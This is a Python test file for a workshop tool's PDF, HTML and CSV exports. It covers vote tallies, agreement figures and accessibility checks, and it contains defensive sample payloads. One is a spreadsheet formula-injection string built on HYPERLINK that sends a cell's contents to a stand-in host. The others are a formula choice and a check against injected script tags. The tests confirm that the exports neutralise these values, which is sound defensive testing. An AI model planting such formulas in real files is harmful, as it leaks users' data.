"""What came of a workshop leaves the site whole: for all who were there, and for spreadsheets."""

import csv
import io
from dataclasses import replace
from datetime import date
from functools import cache
from pathlib import Path

import pdfua
import pytest

from ladder_assess.core.activities.vignettes import Shown
from ladder_assess.core.common.agreement import ORDINAL, RaterAgreement
from ladder_assess.core.common.legible import legible
from ladder_assess.core.workshops.course import Course
from ladder_assess.core.workshops.exercise import POLL, RANK, VIGNETTE, Exercise, Typed
from ladder_assess.core.workshops.record import (
    Account,
    Contested,
    PlacedAccount,
    Played,
    WorkshopRecord,
)
from ladder_assess.core.workshops.tally import FactCount, Tally, Together
from ladder_assess.core.workshops.workshop import Workshop
from ladder_assess.publishing.charts import Speech
from ladder_assess.publishing.common.words import Words
from ladder_assess.publishing.plan.pdf import print_environment
from ladder_assess.publishing.workshops.record_csv import record_csv
from ladder_assess.publishing.workshops.record_pdf import record_html, record_pdf
from tests.publishing.plans import (
    FONTS,
    HOSTILE,
    PANEL,
    TEMPLATES,
    assessed,
    questionnaire,
    sources,
)

DAY = date(2026, 5, 4)
FORMULA = '=HYPERLINK("http://example.org/?"&A1)'
BEFORE, AFTER = Tally((0, 2, 0, 0, 3, 0, 1, 0, 0)), Tally((0, 0, 0, 0, 5, 1, 0, 0, 0))


@cache
def words() -> Words:
    return Words(questionnaire(), sources())


def record(title: str = "Team day", account: str = "A panel") -> WorkshopRecord:
    """Three exercises: voted on twice, of too few, and of an account that has gone."""
    exercise = Exercise(VIGNETTE, "a")
    fact = next(iter(words().questionnaire.items))
    shows = (Shown((fact,), "It advises."),)
    told = Account(exercise, account, "", ("A panel meets.", "It advises."), PANEL, shows)
    placed = PlacedAccount(told, assessed(1, PANEL))
    played = (
        Played(1, exercise, told, placed, (BEFORE, AFTER)),
        Played(2, exercise, told, placed, (None,)),
        Played(3, exercise, None, None, (AFTER,)),
    )
    workshop = Workshop(1, title, "CDFGHJ", (exercise,) * 3, Course(4), 9, DAY)
    return WorkshopRecord(workshop, played, None, None, None, (Contested(1, played[0]),))


def of_choices(kind: str) -> WorkshopRecord:
    """A vote on something typed."""
    choices = ("A & b", "C", "=1+1")
    exercise = Exercise(kind, typed=Typed("Shall we <b> meet 100%?", choices=choices))
    told = Account(exercise, "Shall we <b> meet 100%?", "", (), choices=choices)
    votes = (Tally((15, 10, 5), 6 if kind == RANK else 1),)
    played = (Played(1, exercise, told, None, votes),)
    return replace(record(), played=played, contested=())


def by_facts() -> WorkshopRecord:
    """Rungs were picked, then the facts answered: one by all alike, one by half."""
    facts = (
        FactCount("information", (("none", 6), ("selective", 0), ("unknown", 2))),
        FactCount("seats", (("none", 4), ("minority", 3), ("unknown", 0))),
        FactCount("of earlier questions", (("yes", 9),)),
    )
    told = Tally((0, 0, 6, 0, 0, 0, 0, 0, 0), facts=facts, left_open=2)
    made = record()
    return replace(made, played=(replace(made.played[0], rounds=(BEFORE, told)),), contested=())


def rows(made: WorkshopRecord) -> list[dict[str, str]]:
    return list(
        csv.DictReader(io.StringIO(record_csv(made, words(), Speech()).decode("utf-8-sig")))
    )


@pytest.mark.parametrize("title", ["Team day", "", HOSTILE, "صباح الخير"])
def test_checker_finds_nothing_in_the_pdf(title: str, tmp_path: Path) -> None:
    environment = print_environment(TEMPLATES)
    file = tmp_path / "record.pdf"
    file.write_bytes(record_pdf(record(title), words(), DAY, environment, FONTS))
    assert [f"{f.rule_id}: {f.message}" for f in pdfua.validate(str(file)).findings] == []


def test_the_same_record_makes_the_same_pdf() -> None:
    about = (record(), words(), DAY, print_environment(TEMPLATES), FONTS)
    assert record_pdf(*about) == record_pdf(*about)


def test_print_says_what_the_page_says() -> None:
    html = record_html(record(), words(), print_environment(TEMPLATES))
    for said in (
        "First vote, of 6 people:",
        "Second vote, of 6 people:",
        "In the first vote 0 of 6 stood there too, in the second 1 of 6.",
        "Fewer than five people voted, so no votes are shown.",
        "Not in the library any more",
        "What it would take to stand higher",
        "Other facts, and the sentences that tell them",
    ):
        assert said in html
    assert "<script" not in record_html(record(HOSTILE), words(), print_environment(TEMPLATES))


def test_a_row_stands_for_each_choice_of_each_vote_and_none_for_too_few() -> None:
    found = rows(record())
    assert [(r["Number"], r["Vote"]) for r in found[:27:9]] == [("1", "1"), ("1", "2"), ("2", "1")]
    assert [r["Picked by"] for r in found[:9]] == [str(count) for count in BEFORE.counts]
    assert {r["People"] for r in found[:18]} == {"6"}
    assert found[4]["Choice"] == "4. Asking for views"
    assert [r["Rules place it here"] for r in found[:9]].count("yes") == 1
    few = found[18]
    assert (few["People"], few["Choice"], few["Picked by"]) == ("fewer than five", "", "")
    assert {r["Rules place it here"] for r in found[19:]} == {""}


@pytest.mark.parametrize("kind", [POLL, RANK])
def test_choices_are_told_too(kind: str) -> None:
    made = of_choices(kind)
    html = record_html(made, words(), print_environment(TEMPLATES))
    assert "Shall we &lt;b&gt; meet 100%?" in html
    assert ("points" in html) == (kind == RANK)
    head = "Points" if kind == RANK else "Picked by"
    assert [r[head] for r in rows(made)] == ["15", "10", "5"]
    assert {r["Choice"] for r in rows(made)} == {"A & b", "C", "'=1+1"}


def test_checker_finds_nothing_where_choices_are_told(tmp_path: Path) -> None:
    file = tmp_path / "record.pdf"
    about = (words(), DAY, print_environment(TEMPLATES), FONTS)
    file.write_bytes(record_pdf(of_choices(POLL), *about))
    assert [f"{f.rule_id}: {f.message}" for f in pdfua.validate(str(file)).findings] == []


def test_a_title_that_would_act_in_a_spreadsheet_does_not() -> None:
    (first, *_) = rows(record(account=FORMULA))
    assert first["Activity"] == f"'{FORMULA}"


def test_what_no_file_can_hold_is_no_harm() -> None:
    text = "bell \a, half a pair \ud800"
    assert rows(record(account=text))
    html = record_html(record(text), words(), print_environment(TEMPLATES))
    assert legible(html) == html


def test_what_is_left_of_a_record_without_votes_is_a_page() -> None:
    empty = replace(record(), played=(), contested=())
    assert rows(empty) == []
    assert "<h1>Team day</h1>" in record_html(empty, words(), print_environment(TEMPLATES))


def test_facts_are_told_in_the_pdf_and_the_table(tmp_path: Path) -> None:
    environment = print_environment(TEMPLATES)
    told = legible(record_html(by_facts(), words(), environment))
    assert "On 1 of 2 facts, three in four or more say the same." in told
    assert "People picked 3 different rungs." in told
    assert "Their answers on the facts lead to one rung." in told
    assert "The answers of 2 people leave several rungs possible." in told
    assert "0 of 8, by the facts" in told
    file = tmp_path / "record.pdf"
    file.write_bytes(record_pdf(by_facts(), words(), DAY, environment, FONTS))
    assert not pdfua.validate(str(file)).findings
    found = {row["Choice"]: row["Picked by"] for row in rows(by_facts()) if row["Vote"] == "2"}
    assert found["several rungs possible"] == "2"
    assert found["Information: Don't know"] == "2"
    assert len([choice for choice in found if choice.startswith("Seats: ")]) == 2
    assert {row["By the facts"] for row in rows(by_facts()) if row["Vote"] == "2"} == {"yes"}
    assert {row["By the facts"] for row in rows(by_facts()) if row["Vote"] == "1"} == {"no"}


AWAY, PLACE = "Rungs away from the rules, on average", "Place by how far people were apart"


def test_how_far_people_stood_from_the_rules_is_told_everywhere() -> None:
    played = record().played[0]
    assert played.placed
    away = [f"{each.distance(played.placed.rungs):.2f}" for each in (BEFORE, AFTER)]
    assert [row[AWAY] for row in rows(record())[:18:9]] == away
    sums = (Together(2, 12, None, 3, 0.0, 1.25), Together(2, 12, None, 6, 0.0, 0.5))
    made = replace(record(), before=sums[0], after=sums[1])
    assert [(r["Activity"], r["Vote"], r[AWAY]) for r in rows(made)[-2:]] == [
        ("All activities voted on twice", "1", "1.25"),
        ("All activities voted on twice", "2", "0.50"),
    ]
    html = record_html(made, words(), print_environment(TEMPLATES))
    assert "people stood 1.2 away on the ladder on average before they talked, and 0.5" in html
    assert f"On average people stood {float(away[0]):.1f} away from it" in html
    alone = replace(record(), first=sums[0])
    assert rows(alone)[-1]["Activity"] == "All activities"
    assert "1.2 away on the ladder on average." in record_html(
        alone, words(), print_environment(TEMPLATES)
    )


def test_what_was_most_contested_is_named_with_its_ties() -> None:
    first, second, _ = record().played
    made = replace(record(), contested=(Contested(1, first, True), Contested(1, second, True)))
    html = record_html(made, words(), print_environment(TEMPLATES))
    assert html.count("(as far apart as on another here)") == 2
    assert {row["Number"]: row[PLACE] for row in rows(made)} == {"1": "1", "2": "1", "3": ""}


def test_the_agreement_of_the_first_votes_is_told_and_what_the_other_lacks() -> None:
    how = RaterAgreement(ORDINAL, 0.42, 0.1, 0.7, 5, 30, 75)
    before = Together(2, 12, None, 3, 0.0, 1.25)
    made = replace(record(), first=Together(5, 30, how, 9, 0.0, 1.0), before=before, after=before)
    html = record_html(made, words(), print_environment(TEMPLATES))
    assert "on all 5 activities, people agreed" in html
    assert "alpha of 0.42. To say how talking changed that, five activities must" in html
    assert "here it was 2" in html
    assert "0.42" not in record_html(
        replace(made, before=replace(before, agreement=how)), words(), print_environment(TEMPLATES)
    ).replace("alpha is 0.42", "")
